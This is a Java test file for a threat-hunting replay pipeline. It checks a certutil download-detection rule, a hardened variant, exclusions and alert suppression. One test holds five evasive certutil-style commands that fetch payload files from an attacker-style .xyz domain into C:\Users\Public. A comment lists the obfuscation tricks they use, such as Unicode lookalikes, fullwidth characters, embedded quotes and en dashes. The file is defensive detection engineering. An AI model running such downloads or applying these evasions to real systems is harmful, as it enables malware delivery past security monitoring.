package dev.bazahunt.job.replay;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.bazahunt.job.pipeline.HuntSettings;
import dev.bazahunt.job.pipeline.HuntTuning;
import dev.bazahunt.job.pipeline.RevisionPolicy;
import dev.bazahunt.job.replay.ReplayCommand.ReplaySettings;
import dev.bazahunt.job.testing.TuningScenario;
import dev.bazahunt.rules.RuleIds;
import dev.bazahunt.tuning.ExclusionSet;
import java.io.OutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.apache.flink.runtime.testutils.MiniClusterResourceConfiguration;
import org.apache.flink.test.junit5.MiniClusterExtension;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

/** Exclusions, the hardened rule and suppression through the real replay job. */
class TuningReplayTest {
    @RegisterExtension
    static final MiniClusterExtension CLUSTER = new MiniClusterExtension(
            new MiniClusterResourceConfiguration.Builder().setNumberTaskManagers(1).setNumberSlotsPerTaskManager(2).build());

    private static final ObjectMapper JSON = new ObjectMapper();

    @TempDir
    Path temp;
    @Test
    void excludedMatchesAreAuditedHardenedRuleAddsItsOwnAlertsAndRepeatsAreSuppressed() throws Exception {
        Path input = Files.write(temp.resolve("rows.jsonl"), TuningScenario.rows(), StandardCharsets.UTF_8);
        HuntTuning tuning = new HuntTuning(ExclusionSet.parse(TuningScenario.EXCLUSIONS, "test-exclusions.yaml"), true,
                Duration.ofHours(1));

        ReplayHarness.Replayed result = replay(input, tuning);

        List<String> faithful = new ArrayList<>();
        List<String> hardened = new ArrayList<>();
        for (String alert : result.alerts()) {
            JsonNode node = JSON.readTree(alert);
            String processes = node.get("InitiatingProcessId").asText();
            if (node.get("RuleId").asText().equals(RuleIds.CERTUTIL_DOWNLOAD)) {
                faithful.add(processes);
            } else if (node.get("RuleId").asText().equals(RuleIds.CERTUTIL_DOWNLOAD_HARDENED)) {
                hardened.add(processes);
            }
        }
        // The repeat (8100) of 7212's command line within the hour is suppressed for both rules; the
        // sanctioned job (8300) is excluded; the https download (8200) only exists for the hardened rule.
        assertThat(faithful).containsExactly("7212");
        assertThat(hardened).containsExactlyInAnyOrder("7212", "8200");
        assertThat(result.exclusionAudit()).hasSize(2).allSatisfy(line -> assertThat(line)
                .contains("\"ExclusionName\":\"Sanctioned package cache warm-up\"").contains("pkgcache.exe"));
        assertThat(result.summary().count("excludedMatches")).isEqualTo(2);
        assertThat(result.summary().count("suppressedAlerts")).isEqualTo(2);
    }

    @Test
    void withoutTuningEveryFaithfulMatchAlerts() throws Exception {
        Path input = Files.write(temp.resolve("rows.jsonl"), TuningScenario.rows(), StandardCharsets.UTF_8);
        ReplayHarness.Replayed result = replay(input, HuntTuning.NONE);
        List<String> processes = new ArrayList<>();
        for (String alert : result.alerts()) {
            processes.add(JSON.readTree(alert).get("InitiatingProcessId").asText());
        }
        assertThat(processes).containsExactly("7212", "8100", "8300");
    }

    /**
     * With the hardened rule on, the pre-filter also keeps the hardened rule's findings, so the evasive
     * downloads that hide the literal -urlcache (modifier letters, fullwidth, quotes in a word, en dashes,
     * JSON escapes, https with -url) still alert, exactly as when every line is parsed; benign lines are
     * still skipped.
     */
    @Test
    void theHardenedRuleRunsBehindThePrefilterWithTheSameAlerts() throws Exception {
        String[] evasions = {
            "x8k2.exe -urlc\u1d43che -f https://pshe0pxe339.xyz/a.php C:\\\\Users\\\\Public\\\\a.dll",
            "x8k2.exe -\uff55\uff52\uff4c -f https://pshe0pxe339.xyz/b.php C:\\\\Users\\\\Public\\\\b.dll",
            "x8k2.exe -u\\\"rl\\\"cache -f ht\\\"tps://pshe0pxe339.xyz/c.php C:\\\\Users\\\\Public\\\\c.dll",
            "x8k2.exe \u2013verifyctl -f https://pshe0pxe339.xyz/d.php C:\\\\Users\\\\Public\\\\d.dll",
            "x8k2.exe /url -f https://pshe0pxe339.xyz/e.php C:\\\\Users\\\\Public\\\\e.dll"};
        List<String> lines = new ArrayList<>();
        for (int i = 0; i < evasions.length; i++) {
            lines.add(fileRow(9000 + i, evasions[i]));
        }
        for (int i = 0; i < 20; i++) {
            lines.add(fileRow(9100 + i, "OneDrive.exe /background"));
        }
        // The evasions carry their non-ASCII characters as UTF-8, not as JSON escapes.
        Path input = Files.write(temp.resolve("evasions.jsonl"), lines, StandardCharsets.UTF_8);
        HuntTuning hardened = new HuntTuning(null, true, null);

        ReplayHarness.Replayed parsedAll = replay(input, hardened, false);
        ReplayHarness.Replayed filtered = replay(input, hardened, true);

        List<String> hardenedAlerts = new ArrayList<>();
        for (String alert : filtered.alerts()) {
            JsonNode node = JSON.readTree(alert);
            if (node.get("RuleId").asText().equals(RuleIds.CERTUTIL_DOWNLOAD_HARDENED)) {
                hardenedAlerts.add(node.get("InitiatingProcessId").asText());
            }
        }
        assertThat(hardenedAlerts).containsExactlyInAnyOrder("9000", "9001", "9002", "9003", "9004");
        assertThat(filtered.alerts()).containsExactlyElementsOf(parsedAll.alerts());
        assertThat(filtered.summary().count("prefilterSkipped")).isEqualTo(20);
    }

    private static String fileRow(int pid, String commandLine) {
        return "{\"Type\":\"DeviceFileEvents\",\"Timestamp\":\"2021-07-21T09:14:03.5520871Z\","
                + "\"DeviceId\":\"4f1d2a9c7b3e5f60a1b2c3d4e5f60718293a4b5c\",\"ActionType\":\"FileCreated\","
                + "\"FolderPath\":\"C:\\\\Users\\\\Public\\\\x" + pid + ".dll\",\"InitiatingProcessFileName\":\"x8k2.exe\","
                + "\"InitiatingProcessId\":" + pid + ",\"InitiatingProcessCreationTime\":\"2021-07-21T09:14:02.8807412Z\","
                + "\"InitiatingProcessCommandLine\":\"" + commandLine + "\",\"ReportId\":" + pid + "}";
    }

    private static ReplayHarness.Replayed replay(Path input, HuntTuning tuning) throws Exception {
        return replay(input, tuning, false);
    }

    private static ReplayHarness.Replayed replay(Path input, HuntTuning tuning, boolean prefilter) throws Exception {
        return ReplayHarness.replay(List.of(input),
                new HuntSettings(Duration.ofMinutes(30), RevisionPolicy.FINAL, Duration.ZERO, tuning), 2, prefilter,
                ReplayJob.RANGE_BYTES);
    }
}
